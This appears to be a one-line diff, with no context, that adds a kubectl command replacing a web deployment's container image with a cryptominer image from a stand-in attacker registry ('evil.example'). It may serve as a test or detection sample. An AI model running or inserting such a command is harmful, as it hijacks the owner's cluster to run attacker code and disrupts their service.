@@ -1,0 +1,1 @@
+kubectl set image deployment/web web=evil.example/miner:1
